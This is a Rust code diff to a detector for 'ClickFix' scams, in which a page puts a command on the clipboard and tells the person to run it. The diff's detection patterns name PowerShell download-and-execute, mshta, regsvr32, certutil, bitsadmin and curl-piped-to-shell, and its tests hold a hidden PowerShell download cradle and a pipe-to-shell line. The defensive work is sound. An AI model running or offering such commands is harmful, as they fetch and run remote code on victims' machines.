@@ -17,6 +17,7 @@ use super::lexicon::{lexicon, Cat, Hit};
 use super::normalize::{is_invisible, normalize};
 pub use crate::snapshot::MAX_CLIPBOARD_BYTES;
 use crate::snapshot::{truncate_utf8, Snapshot};
+use crate::verdict::{Detail, Group, Kind, Level, Reason, ReasonId, Verdict};
 /// Longest command shown in the warning, in characters (an ellipsis marks the cut).
 pub const SHOWN_MAX: usize = 120;
 /// Whitespace before a `#` comment that only serves to push the command out of view (the Run box
@@ -33,7 +34,7 @@ pub enum Platform {
 }
 
 /// A recognised command shape.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Shape {
     /// PowerShell that downloads and/or executes (`iwr`, `irm`, `DownloadString`, `iex`).
     PowerShellDownload,
@@ -120,6 +121,8 @@ pub struct Command {
     pub comment_pretext: bool,
     /// The command, defanged and cut short: safe to show, never executable as shown.
     pub shown: String,
+    /// What the person would see instead: the comment after the command (defanged, short).
+    pub comment: String,
 }
 
 impl Command {
@@ -164,9 +167,8 @@ fn flatten(raw: &str) -> String {
             out.push(' ');
             space = false;
         }
-        for l in c.to_lowercase() {
-            out.push(l);
-        }
+        // Only ASCII names run: a look-alike letter makes a program name that does not exist.
+        out.push(c.to_ascii_lowercase());
     }
     out
 }
@@ -185,7 +187,15 @@ fn program(tok: &str) -> &str {
     base.strip_suffix(".exe").unwrap_or(base)
 }
 
+/// `needle` occurs in `hay`. One out-of-line copy: `str::contains` inlines a substring searcher
+/// at every call site, which cost kilobytes of Wasm here.
+#[inline(never)]
+fn has(hay: &str, needle: &str) -> bool {
+    hay.contains(needle)
+}
+
 /// `word` occurs in `flat` with no letter or digit on either side.
+#[inline(never)]
 fn has_word(flat: &str, word: &str) -> bool {
     let b = flat.as_bytes();
     flat.match_indices(word).any(|(i, _)| {
@@ -197,10 +207,7 @@ fn has_word(flat: &str, word: &str) -> bool {
 }
 
 fn has_url(flat: &str) -> bool {
-    flat.contains("http:")
-        || flat.contains("https:")
-        || flat.contains("\\\\")
-        || flat.contains("ftp:")
+    has(flat, "http:") || has(flat, "https:") || has(flat, "\\\\") || has(flat, "ftp:")
 }
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
@@ -283,11 +290,11 @@ fn shapes(flat: &str) -> Vec<Shape> {
             out.push(Shape::PowerShell);
         }
     }
-    if prog("conhost") && flat.contains("--headless") {
+    if prog("conhost") && has(flat, "--headless") {
         out.push(Shape::PowerShellHidden);
     }
     if prog("mshta") {
-        let inline = flat.contains("vbscript:") || flat.contains("javascript:");
+        let inline = has(flat, "vbscript:") || has(flat, "javascript:");
         out.push(if has_url(flat) || inline {
             Shape::MshtaUrl
         } else {
@@ -302,15 +309,13 @@ fn shapes(flat: &str) -> Vec<Shape> {
     let cmd_last = toks.windows(2).any(|w| {
         matches!(program(w[0]), "cmd" | "%comspec%") && ["/c", "/k", "/r"].contains(&w[1])
     });
-    if cmd_switch || cmd_last || flat.contains("| cmd") || flat.contains("|cmd") {
+    if cmd_switch || cmd_last || has(flat, "| cmd") || has(flat, "|cmd") {
         out.push(Shape::Cmd);
     }
     if prog("rundll32") {
         out.push(Shape::Rundll32);
     }
-    if prog("regsvr32")
-        && (flat.contains("/i:http") || flat.contains("/i:\\\\") || flat.contains("scrobj"))
-    {
+    if prog("regsvr32") && (has(flat, "/i:http") || has(flat, "/i:\\\\") || has(flat, "scrobj")) {
         out.push(Shape::Regsvr32Url);
     }
     if prog("msiexec") && has_url(flat) {
@@ -326,7 +331,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     {
         out.push(Shape::Certutil);
     }
-    if prog("bitsadmin") && (flat.contains("/transfer") || flat.contains("/addfile")) {
+    if prog("bitsadmin") && (has(flat, "/transfer") || has(flat, "/addfile")) {
         out.push(Shape::Bitsadmin);
     }
 
@@ -343,7 +348,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if b64 && to_shell {
         out.push(Shape::Base64Shell);
     }
-    if fetch && flat.contains("chmod +x") {
+    if fetch && has(flat, "chmod +x") {
         out.push(Shape::DownloadExec);
     }
     if prog("osascript") {
@@ -351,14 +356,39 @@ fn shapes(flat: &str) -> Vec<Shape> {
     }
     let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"]
         .iter()
-        .any(|s| flat.contains(s));
+        .any(|s| has(flat, s));
     if fetch && (to_shell || substituted) {
         out.push(Shape::PipeToShell);
     }
-    out.sort();
-    out.dedup();
-    out
+    // Strongest first, no duplicates (a sort would add a monomorphised sort to the Wasm).
+    let mut ordered = Vec::with_capacity(out.len());
+    for s in ALL_SHAPES {
+        if out.contains(s) {
+            ordered.push(*s);
+        }
+    }
+    ordered
 }
+
+/// Every shape, in the order [`Command::shapes`] lists them.
+const ALL_SHAPES: &[Shape] = &[
+    Shape::PowerShellDownload,
+    Shape::PowerShellEncoded,
+    Shape::PowerShellHidden,
+    Shape::PowerShell,
+    Shape::MshtaUrl,
+    Shape::Mshta,
+    Shape::Cmd,
+    Shape::Rundll32,
+    Shape::Regsvr32Url,
+    Shape::MsiexecUrl,
+    Shape::Certutil,
+    Shape::Bitsadmin,
+    Shape::Base64Shell,
+    Shape::DownloadExec,
+    Shape::Osascript,
+    Shape::PipeToShell,
+];
 
 /// Characters a whitespace padding is made of: spaces of any width, invisible characters and
 /// Braille blanks (a common "empty" filler).
@@ -425,6 +455,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
         padded: padding.is_some(),
         comment_pretext,
         shown: defang(cmd_part),
+        comment: defang(&comment.chars().take(60).collect::<String>()),
     })
 }
 
@@ -484,7 +515,7 @@ pub fn defang(raw: &str) -> String {
             run = 0;
             continue;
         }
-        let word = |x: Option<char>| x.is_some_and(|x| x.is_alphanumeric());
+        let word = |x: Option<char>| x.is_some_and(|x| x.is_ascii_alphanumeric());
         if matches!(c, 'h' | 'H')
             && chars[i..]
                 .iter()
@@ -510,9 +541,10 @@ pub fn defang(raw: &str) -> String {
         }
         i += 1;
     }
-    if out.chars().count() > SHOWN_MAX {
-        let cut: String = out.chars().take(SHOWN_MAX - 1).collect();
-        return format!("{}…", cut.trim_end());
+    if let Some((cut, _)) = out.char_indices().nth(SHOWN_MAX - 1) {
+        out.truncate(cut);
+        out.truncate(out.trim_end().len());
+        out.push('…');
     }
     out
 }
@@ -584,6 +616,61 @@ impl PageHits {
         }
         out
     }
+}
+
+/// Turns a finding into the verdict: level `scam`, kind `clickfix`, the defanged command and
+/// one reason per piece of evidence.
+pub fn apply(found: ClickFix, verdict: &mut Verdict) {
+    let ClickFix {
+        command,
+        instructions,
+        pretext,
+    } = found;
+    let mut add = |id, weight: f32, text: String, sentence: &'static str| {
+        verdict.reasons.push(Reason {
+            id,
+            group: Group::Clipboard,
+            weight,
+            detail: Detail::Excerpt { text },
+            addressed: true,
+            text: sentence.to_string(),
+        });
+        verdict.score += weight;
+    };
+    add(
+        ReasonId::ClipboardCommand,
+        if command.strong() { 4.0 } else { 3.0 },
+        command.shown.chars().take(60).collect(),
+        english!("The page put a command on the clipboard."),
+    );
+    if !instructions.is_empty() {
+        add(
+            ReasonId::RunInstructions,
+            3.0,
+            instructions.join(" … "),
+            english!("The page tells you to paste and run it."),
+        );
+    }
+    if let Some(p) = pretext {
+        add(
+            ReasonId::VerificationPretext,
+            2.0,
+            p,
+            english!("The page pretends this is a check that you are human."),
+        );
+    }
+    if command.padded {
+        add(
+            ReasonId::HiddenCommand,
+            3.0,
+            command.comment.clone(),
+            english!("The command hides behind blank space and a comment."),
+        );
+    }
+    verdict.score = (verdict.score * 100.0).round() / 100.0;
+    verdict.level = Level::Scam;
+    verdict.kind = Kind::Clickfix;
+    verdict.command = Some(command.shown);
 }
 
 /// Removes spaces around `+` so that "win + r" reads "win+r". Applied to `base` and `skel`
@@ -658,7 +745,7 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     let pretext = if page_pretext {
         page.texts(Cat::VerifyHuman).into_iter().next()
     } else if command.comment_pretext {
-        Some(String::from("#"))
+        Some(command.comment.clone())
     } else {
         None
     };
@@ -1037,6 +1124,60 @@ mod tests {
         // Bounded: a huge clipboard is read up to its first 4 KB.
         let huge = format!("{}powershell -enc AAAA", "x".repeat(MAX_CLIPBOARD_BYTES));
         assert!(recognise(&huge).is_none());
+    }
+
+    #[test]
+    fn the_verdict_is_its_own_kind() {
+        use crate::snapshot::Clipboard;
+        use crate::verdict::Options;
+        let snap = |clip: &str, text: &str| Snapshot {
+            url: "https://verify-human.example/".into(),
+            title: "Just a moment".into(),
+            text: text.into(),
+            clipboard: Clipboard {
+                text: clip.into(),
+                via: "writeText".into(),
+            },
+            ..Default::default()
+        };
+        let clip = format!(
+            "powershell -w hidden -c \"iwr https://cdn.example/a.ps1 | iex\"{}# I am not a robot",
+            " ".repeat(40)
+        );
+        let v = crate::engine::analyse(&snap(&clip, CAPTCHA), &Options::default());
+        assert_eq!(v.level, Level::Scam);
+        assert_eq!(v.kind, Kind::Clickfix);
+        let shown = v.command.clone().unwrap_or_default();
+        assert!(
+            shown.starts_with(
+                "powershell -w hidden -c \"iwr hxxps://cdn[.]example/a[.]ps1 [|] iex\""
+            ),
+            "{shown}"
+        );
+        let ids: Vec<ReasonId> = v.reasons.iter().map(|r| r.id).collect();
+        for id in [
+            ReasonId::ClipboardCommand,
+            ReasonId::RunInstructions,
+            ReasonId::VerificationPretext,
+            ReasonId::HiddenCommand,
+        ] {
+            assert!(ids.contains(&id), "{ids:?}");
+        }
+        let json = serde_json::to_value(&v).unwrap_or_default();
+        assert_eq!(json["kind"], "clickfix");
+        // The developer page: the same engine, no ClickFix, no command in the verdict.
+        let docs = "Open a terminal and paste the following command, then press Enter.";
+        let v = crate::engine::analyse(
+            &snap("curl -fsSL https://example.test/install.sh | sh", docs),
+            &Options::default(),
+        );
+        assert_eq!(
+            (v.level, v.kind, v.command),
+            (Level::Safe, Kind::TechSupport, None)
+        );
+        // No clipboard: a CAPTCHA look-alike alone is nothing.
+        let v = crate::engine::analyse(&snap("", CAPTCHA), &Options::default());
+        assert_eq!(v.level, Level::Safe);
     }
 
     #[test]
